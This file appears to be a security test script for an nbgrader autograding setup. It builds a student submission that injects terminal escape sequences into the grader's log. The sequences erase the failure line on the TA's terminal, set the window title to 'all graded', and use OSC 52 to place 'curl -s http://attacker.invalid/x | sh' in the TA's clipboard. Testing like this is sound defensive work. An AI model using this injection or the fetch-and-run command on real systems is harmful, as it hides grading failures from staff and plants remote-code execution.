"""a04: a02's unlabelled write into the grader's nbgrader log, with terminal escape sequences: the forged
failure reason is printed raw to the TA's terminal by `make grade` ("submissions that could not be graded in
full: ... failed: <reason>"): it erases that line and the header above it, and carries an OSC 52 sequence that
sets the TA's clipboard (terminals that honour it) and an OSC 0 window title.  The submission fails through 4
kernel deaths (max_kernel_deaths=3), as in a02. (Tries: \r splits the line in _reason (splitlines), so ESC[1G moves to column 1 instead; the line was overwritten by nbgrader's own writes,
which go to its own offset, not the end: it is now written past 3 MB of newlines and names JSON, the pattern _reason prefers.)  Checks the raw bytes of the grader's stdout."""
from u7 import *
import base64
clip = base64.b64encode(b"curl -s http://attacker.invalid/x | sh").decode()
LINE = ("json.decoder.JSONDecodeError: \\x1b[1G\\x1b[2K\\x1b[1A\\x1b[2K\\x1b]0;all graded\\x07\\x1b]52;c;" + clip + "\\x07")
WRITE = r'''
import os
fd = os.open('/proc/2/fd/2', os.O_WRONLY | os.O_APPEND)
os.write(fd, b'\n' * 3_000_000)  # past nbgrader's own (non-append) offset, which overwrites what is under it
os.write(fd, ("\n" + "LINE" + "\n").encode())
q1 = 'a'
'''.replace("LINE", LINE)
def die(src):
    return src + "\nimport os; os._exit(1)\n"
nb = notebook(overrides={"quiz_q1": WRITE, "quiz_q2": die("q2 = 'a'"), "quiz_q3": die("q3 = 'a'"),
                         "quiz_q4": die("q4 = 'a'"), "quiz_q5": die("q5 = 'a'")})
final, p = ugrade("a04", {"escaper": nb})
raw = p.stdout
i = raw.find("could not be graded")
print("RAW STDOUT AROUND THE SUMMARY:", repr(raw[i - 20:i + 400]))
print("ESC bytes in grader stdout:", raw.count("\x1b"), " OSC52 present:", "\x1b]52;c;" in raw)
# RESULT (BROKEN): grading_report.json "reason" holds ESC[1G ESC[2K ESC[1A ESC[2K, OSC 0 and OSC 52 (clipboard:
# base64 of "curl -s http://attacker.invalid/x | sh"); `make grade`'s stdout prints them raw (6 ESC bytes, OSC 52
# present): on the TA's terminal the failure line and the header above it are erased, the title says "all graded",
# and terminals that honour OSC 52 put the command in the TA's clipboard.
